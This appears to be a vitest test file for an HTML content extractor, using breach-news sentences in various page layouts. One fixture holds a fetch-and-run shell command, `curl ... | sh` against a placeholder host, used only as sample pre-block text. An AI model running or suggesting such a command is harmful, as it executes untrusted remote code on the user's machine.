import { describe, expect, it } from 'vitest';
import { extractContent } from '../../extractors/content/index.js';

const para = (s: string) => `<p>${s}</p>`;
const SENTENCES = [
  'Investigators said the intrusion began in March, when the attackers used a stolen password to reach a remote access gateway.',
  'From there, the group moved laterally, harvesting credentials and staging archives on a file server, according to the report.',
  'The company said it had reset every administrator account, rebuilt the affected servers, and notified regulators in three countries.',
  'Analysts noted that the tooling, infrastructure and working hours matched an espionage campaign documented last year.',
];
const nav = '<ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li><li><a href="/about">About us</a></li></ul>';
const related =
  '<ul><li><a href="/a">Another breach at a regional bank, officials say</a></li><li><a href="/b">Five takeaways from the latest ransomware report</a></li><li><a href="/c">Why patching still lags in hospitals</a></li></ul>';
const expectedBody = SENTENCES.join('\n\n');

describe('extractContent layouts', () => {
  it('reads an <article> page and leaves out header, nav and footer', () => {
    const html = `<html><body><header><a href="/">Site</a>${nav}</header><main><article><h1>Breach at Example Corp</h1>
      ${SENTENCES.map(para).join('\n')}</article></main><footer><p>Copyright 2024 Example Media. All rights reserved, and more.</p></footer></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('reads a div-only page by scoring, without any article hint in class names', () => {
    const html = `<html><body><div id="top"><div class="x1">${nav}</div></div><div class="wrap"><div class="c7">
      ${SENTENCES.map((s) => `<div>${s}</div>`).join('')}</div><div class="c8">${related}</div></div></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('reads an old table layout with <br><br> paragraphs and skips the menu column', () => {
    const html = `<html><body><table width="100%"><tr><td width="150">${nav}</td><td>
      <font size="2">${SENTENCES.join('<br><br>\n')}</font></td></tr></table></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('keeps subheadings, list items, quotes and pre blocks as paragraphs, without markers', () => {
    const html = `<article><h1>Title</h1>${para(SENTENCES[0]!)}<h2>What was taken</h2>
      <ul><li>Customer names and   addresses</li><li>Hashed passwords</li></ul>
      <blockquote><p>We acted within hours, the spokesperson said.</p></blockquote>
      <pre>curl -s http://example.test/payload | sh</pre>${para(SENTENCES[1]!)}</article>`;
    expect(extractContent(html).text).toBe(
      [SENTENCES[0], 'What was taken', 'Customer names and addresses', 'Hashed passwords', 'We acted within hours, the spokesperson said.', 'curl -s http://example.test/payload | sh', SENTENCES[1]].join('\n\n'),
    );
  });

  it('turns rows of a data table in the body into "cell | cell" paragraphs', () => {
    const html = `<article>${para(SENTENCES[0]!)}<table><tr><th>CVE</th><th>Product</th><th>CVSS</th></tr>
      <tr><td>CVE-2024-0001</td><td>Gateway</td><td>9.8</td></tr></table>${para(SENTENCES[1]!)}</article>`;
    expect(extractContent(html).text).toBe([SENTENCES[0], 'CVE | Product | CVSS', 'CVE-2024-0001 | Gateway | 9.8', SENTENCES[1]].join('\n\n'));
  });

  it('decodes entities and collapses inline whitespace', () => {
    const html = `<article><p>AT&amp;T   and\n Verizon&#8217;s networks were   <b>breached</b>, officials said, in a long campaign.</p>${SENTENCES.map(para).join('')}</article>`;
    expect(extractContent(html).text.split('\n\n')[0]).toBe('AT&T and Verizon’s networks were breached, officials said, in a long campaign.');
  });
});

describe('extractContent container choice', () => {
  it('joins a body split over sibling wrappers (an ad slot in between)', () => {
    const html = `<html><body><div class="main"><article><h1>T</h1><div class="part">${para(SENTENCES[0]!)}${para(SENTENCES[1]!)}</div>
      <div class="ad-slot"><p>Advertisement</p></div><div class="part">${para(SENTENCES[2]!)}${para(SENTENCES[3]!)}</div></article></div></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('does not run on into the next story of an infinite-scroll page', () => {
    const next = `<div class="next"><p>Up next</p><article><h1>Another story</h1>${SENTENCES.map((s) => para(s.replace('The', 'A'))).join('')}</article></div>`;
    const html = `<html><body><main><article><h1>This story</h1>${SENTENCES.map(para).join('')}</article>${next}</main></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('reads a body whose sections are each wrapped in an <article> of their own', () => {
    const section = (h: string, a: string, b: string) => `<article class="part"><h2>${h}</h2><div class="text">${para(a)}${para(b)}</div></article>`;
    const html = `<html><body><main><h1>How the breach unfolded</h1><div class="parts">${section('The entry', SENTENCES[0]!, SENTENCES[1]!)}${section('The response', SENTENCES[2]!, SENTENCES[3]!)}${section('What comes next', SENTENCES[1]!.replace('From there', 'Next'), SENTENCES[3]!.replace('Analysts', 'Experts'))}</div></main></body></html>`;
    const text = extractContent(html).text;
    for (const s of [...SENTENCES, 'The entry', 'The response', 'What comes next', 'Next, the group', 'Experts noted']) expect(text).toContain(s);
  });

  it('still stops at the next story when that story has only a linked headline and a <time>', () => {
    const card = (i: number) => `<article><h2><a href="/story-${i}">Other story number ${i} about a breach</a></h2><time datetime="2024-01-0${i}">Jan ${i}</time>${para(SENTENCES[i % 4]!.replace('The', 'One'))}</article>`;
    const html = `<html><body><main><article><h1>This story</h1>${SENTENCES.map(para).join('')}</article><div class="more">${[1, 2, 3].map(card).join('')}</div></main></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('keeps to the one <article> of a chosen block, leaving out the testimonials beside it', () => {
    const quote = (i: number) => `<blockquote><p>Reader ${i} wrote that this newsletter is the only one they read every single week, because it explains the science clearly and never fills the inbox with noise.</p></blockquote>`;
    const html = `<html><body><main><h1>This story</h1><article class="body">${SENTENCES.map(para).join('')}</article><div class="quotes">${[1, 2, 3].map(quote).join('')}</div></main></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('leaves out a grid of teaser cards (linked headline and excerpt) beside the body', () => {
    const card = (i: number) => `<div class="item"><div class="pic"><a href="/story-${i}"></a></div><div class="copy"><h3><a href="/story-${i}">Other story ${i}</a></h3><p>${SENTENCES[i % 4]!.replace('The', 'Another')} It went on for weeks, officials said, before anyone noticed.</p></div></div>`;
    const html = `<html><body><div id="content"><div class="story">${SENTENCES.map(para).join('')}</div><div class="list">${[1, 2, 3, 4].map(card).join('')}</div></div></body></html>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('keeps a body made of items whose headings link elsewhere (a list of tools)', () => {
    const item = (i: number) => `<div class="item"><h3><a href="https://example.com/tool-${i}">Tool ${i}</a></h3><p>${SENTENCES[i % 4]}</p></div>`;
    const html = `<html><body><nav>${nav}</nav><div class="post">${[0, 1, 2, 3].map(item).join('')}</div></body></html>`;
    const text = extractContent(html).text;
    for (const s of SENTENCES) expect(text).toContain(s);
  });

  it('keeps a section whose id is a slug of its heading, even when the slug holds a furniture word', () => {
    const html = `<article>${para(SENTENCES[0]!)}<div id="2-heading-why-popular-apps-still-leak-data">${para(SENTENCES[1]!)}</div>${para(SENTENCES[2]!)}${para(SENTENCES[3]!)}</article>`;
    expect(extractContent(html).text).toBe(expectedBody);
  });

  it('keeps a page builder\'s widget wrapper around a paragraph of body text (over 200 characters, no links)', () => {
    const joined = `${SENTENCES[1]!.replace('From there', 'Later')} ${SENTENCES[2]!.replace('The company', 'It')}`;
    const html = `<article>${para(SENTENCES[0]!)}${para(SENTENCES[1]!)}<div class="widget-container"><div class="widget-text">${para(joined)}</div></div>${para(SENTENCES[2]!)}${para(SENTENCES[3]!)}</article>`;
    expect(extractContent(html).text).toBe([SENTENCES[0], SENTENCES[1], joined, SENTENCES[2], SENTENCES[3]].join('\n\n'));
  });

  it('keeps a subheading whose id happens to be a furniture word', () => {
    const html = `<article>${para(SENTENCES[0]!)}<h2 id="recommendations">Recommendations</h2>${para(SENTENCES[1]!)}</article>`;
    expect(extractContent(html).text).toBe([SENTENCES[0], 'Recommendations', SENTENCES[1]].join('\n\n'));
  });
});
